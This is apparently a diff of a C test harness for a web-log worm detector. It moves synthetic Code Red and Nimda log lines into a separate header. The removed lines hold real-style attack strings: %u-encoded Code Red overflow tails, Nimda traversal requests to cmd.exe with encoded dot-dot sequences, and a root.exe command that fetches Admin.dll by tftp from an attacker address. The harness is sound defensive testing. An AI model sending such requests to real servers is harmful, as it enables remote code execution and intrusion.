@@ -8,125 +8,9 @@
 #include "decode/weblog.h"
 #include "detect/attacks.h"
 #include "generate/dice.h"
+#include "quality/log_forms.h"
 
 enum { LOG_BYTES = 1 << 16, BENIGN_LINES = 10000, DENIED = 12, CLIENTS = 1 << 12 };
-
-#define FILL_10(c) c c c c c c c c c c
-#define FILL_224(c) FILL_10(FILL_10(c)) FILL_10(FILL_10(c)) FILL_10(c) FILL_10(c) c c c c
-#define TAIL \
-	"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090" \
-	"%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a"
-#define CMD "/winnt/system32/cmd.exe"
-#define ATTACKER "198.18.7.66"
-#define SERVER "192.0.2.80"
-
-struct request_text {
-	const char *path, *query; // NULL: the log has none
-};
-
-static const struct request_text code_red_1[] = { { "/default.ida", FILL_224("N") TAIL } };
-static const struct request_text code_red_2[] = { { "/default.ida", FILL_224("X") TAIL } };
-static const struct request_text code_red_cut[] = { { "/default.ida", NULL } };
-static const struct request_text nimda[] = { { "/scripts/root.exe", "/c+dir" },
-	{ "/MSADC/root.exe", "/c+dir" }, { "/c" CMD, "/c+dir" }, { "/d" CMD, "/c+dir" },
-	{ "/scripts/..%255c.." CMD, "/c+dir" },
-	{ "/_vti_bin/..%255c../..%255c../..%255c.." CMD, "/c+dir" },
-	{ "/_mem_bin/..%255c../..%255c../..%255c.." CMD, "/c+dir" },
-	{ "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c.." CMD, "/c+dir" },
-	{ "/scripts/..%c1%1c.." CMD, "/c+dir" }, { "/scripts/..%c0%2f.." CMD, "/c+dir" },
-	{ "/scripts/..%c0%af.." CMD, "/c+dir" }, { "/scripts/..%c1%9c.." CMD, "/c+dir" },
-	{ "/scripts/..%%35%63.." CMD, "/c+dir" }, { "/scripts/..%%35c.." CMD, "/c+dir" },
-	{ "/scripts/..%25%35%63.." CMD, "/c+dir" }, { "/scripts/..%252f.." CMD, "/c+dir" } };
-static const struct request_text tftp[] = { { "/scripts/root.exe",
-	"/c+tftp%20-i%20" ATTACKER "%20GET%20Admin.dll%20Admin.dll" } };
-
-static const struct {
-	const char *id;
-	unsigned stage;
-	enum verdict verdict;
-	const struct request_text *request;
-	size_t n;
-} worms[] = {
-	{ "code-red-1", STAGE_INFECTING, VERDICT_WORM, code_red_1, 1 },
-	{ "code-red-2", STAGE_INFECTING, VERDICT_WORM, code_red_2, 1 },
-	{ "code-red-unknown", STAGE_PROBING, VERDICT_SUSPECT, code_red_cut, 1 },
-	{ "nimda", STAGE_PROBING, VERDICT_WORM, nimda, countof(nimda) },
-	{ "nimda-tftp", STAGE_INFECTING, VERDICT_WORM, tftp, 1 },
-};
-
-/** A line from so many seconds after noon; `q` is "?" and `query`, or both are empty. */
-typedef void write_fn(FILE *out, unsigned s, const char *path, const char *q, const char *query);
-
-static void write_common(FILE *out, unsigned s, const char *path, const char *q, const char *query)
-{
-	fprintf(out,
-		ATTACKER " - - [09/Aug/2001:12:00:%02u +0000] \"GET %s%s%s HTTP/1.0\" 404 283\n", s,
-		path, q, query);
-}
-
-static void write_combined(
-	FILE *out, unsigned s, const char *path, const char *q, const char *query)
-{
-	fprintf(out,
-		ATTACKER " - - [09/Aug/2001:12:00:%02u +0000] \"GET %s%s%s HTTP/1.0\" 404 283 "
-			 "\"-\" \"-\"\n",
-		s, path, q, query);
-}
-
-static void write_syslog(FILE *out, unsigned s, const char *path, const char *q, const char *query)
-{
-	fprintf(out, "Aug  9 12:00:%02u web1 httpd[33]: ", s);
-	write_combined(out, s, path, q, query);
-}
-
-static void write_iis_5(FILE *out, unsigned s, const char *path, const char *q, const char *query)
-{
-	fprintf(out, "2001-08-09 12:00:%02u " ATTACKER " - " SERVER " 80 GET %s %s 404 -\n", s,
-		path, *q ? query : "-");
-}
-
-static void write_iis_7(FILE *out, unsigned s, const char *path, const char *q, const char *query)
-{
-	fprintf(out, "2001-08-09 12:00:%02u " SERVER " GET %s %s 80 - " ATTACKER " - 404 0 2 15\n",
-		s, path, *q ? query : "-");
-}
-
-static void write_native(FILE *out, unsigned s, const char *path, const char *q, const char *query)
-{
-	fprintf(out,
-		ATTACKER ", -, 08/09/01, 12:00:%02u, W3SVC1, WEB1, " SERVER
-			 ", 15, 300, 500, 404, 2, GET, %s, %s,\n",
-		s, path, *q ? query : "-");
-}
-
-static void write_httperr(FILE *out, unsigned s, const char *path, const char *q, const char *query)
-{
-	fprintf(out,
-		"2001-08-09 12:00:%02u " ATTACKER " 8009 " SERVER
-		" 80 HTTP/1.0 GET %s%s%s 400 - URL\n",
-		s, path, q, query);
-}
-
-static const struct {
-	const char *name, *head;
-	write_fn *write;
-} forms[] = {
-	{ "Apache common", "", write_common },
-	{ "Apache combined", "", write_combined },
-	{ "combined in syslog", "", write_syslog },
-	{ "IIS 5 W3C",
-		"#Fields: date time c-ip cs-username s-ip s-port cs-method cs-uri-stem "
-		"cs-uri-query sc-status cs(User-Agent)\n",
-		write_iis_5 },
-	{ "IIS 5 W3C, no head", "", write_iis_5 },
-	{ "IIS 7 W3C",
-		"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username "
-		"c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\n",
-		write_iis_7 },
-	{ "IIS 7 W3C, no head", "", write_iis_7 },
-	{ "IIS native", "", write_native },
-	{ "HTTPERR", "", write_httperr },
-};
 
 /** What reads a log. */
 struct desk {
@@ -225,33 +109,33 @@ static const struct attack *attack_of(const struct finding *f, const char *id)
 static void run_form(struct logs *l, size_t form)
 {
 	size_t n_lines = 0, n_found = 0, n_right = 0;
-	for (size_t i = 0; i < countof(worms); i++) {
+	for (size_t i = 0; i < LOG_WORMS; i++) {
 		static char text[LOG_BYTES];
 		struct desk *d = desk_new();
 		FILE *out = fmemopen(text, sizeof text, "w");
 		out_of(out, "quality: logs");
-		fputs(forms[form].head, out);
-		for (unsigned k = 0; k < worms[i].n; k++) {
-			const struct request_text *r = &worms[i].request[k];
-			forms[form].write(
+		fputs(log_forms[form].head, out);
+		for (unsigned k = 0; k < log_worms[i].n; k++) {
+			const struct request_text *r = &log_worms[i].request[k];
+			log_forms[form].write(
 				out, k, r->path, r->query ? "?" : "", r->query ? r->query : "");
 		}
 		size_t len = (size_t)ftell(out);
 		fclose(out);
 		desk_read(d, text, len);
-		const struct finding *f = finding_of(d, ATTACKER);
-		const struct attack *a = attack_of(f, worms[i].id);
-		n_lines += worms[i].n;
+		const struct finding *f = finding_of(d, LOG_ATTACKER);
+		const struct attack *a = attack_of(f, log_worms[i].id);
+		n_lines += log_worms[i].n;
 		n_found += a ? a->n : 0;
-		n_right += a && f->verdict == worms[i].verdict &&
-			   a->signature->stage == worms[i].stage && a->n == worms[i].n;
+		n_right += a && f->verdict == log_worms[i].verdict &&
+			   a->signature->stage == log_worms[i].stage && a->n == log_worms[i].n;
 		desk_free(d);
 	}
 	printf("%-20s %4zu of %zu lines, %zu of %zu attackers with worm, variant and stage\n",
-		forms[form].name, n_found, n_lines, n_right, countof(worms));
+		log_forms[form].name, n_found, n_lines, n_right, LOG_WORMS);
 	l->n_lines += n_lines;
 	l->n_found += n_found;
-	l->n_hosts += countof(worms);
+	l->n_hosts += LOG_WORMS;
 	l->n_right += n_right;
 }
 
@@ -340,7 +224,7 @@ static void run_denied(struct logs *l, bool has_times)
 		if (has_times)
 			fprintf(out, "Aug  9 2001 12:00:%02u.123: ", i);
 		fprintf(out,
-			"%%SEC-6-IPACCESSLOGP: list 102 denied tcp " ATTACKER
+			"%%SEC-6-IPACCESSLOGP: list 102 denied tcp " LOG_ATTACKER
 			"(%u) -> 10.0.%u.%u(445), 1 packet\n",
 			1477 + i, i * 37 % 256, 1 + i * 91 % 250);
 	}
@@ -348,7 +232,7 @@ static void run_denied(struct logs *l, bool has_times)
 	fclose(out);
 	struct desk *d = desk_new();
 	desk_read(d, text, len);
-	const struct finding *f = finding_of(d, ATTACKER);
+	const struct finding *f = finding_of(d, LOG_ATTACKER);
 	l->n_denied++;
 	l->n_denied_named += f && f->verdict == VERDICT_WORM && f->has_port && f->port == 445;
 	desk_free(d);
@@ -359,7 +243,7 @@ void logs_run(struct logs *l)
 	printf("\n== logs: the requests of Code Red I and II, of Code Red without a query, of "
 	       "Nimda "
 	       "(16), and its infecting step\n");
-	for (size_t i = 0; i < countof(forms); i++)
+	for (size_t i = 0; i < LOG_FORMS; i++)
 		run_form(l, i);
 	run_benign(l);
 	run_denied(l, true);
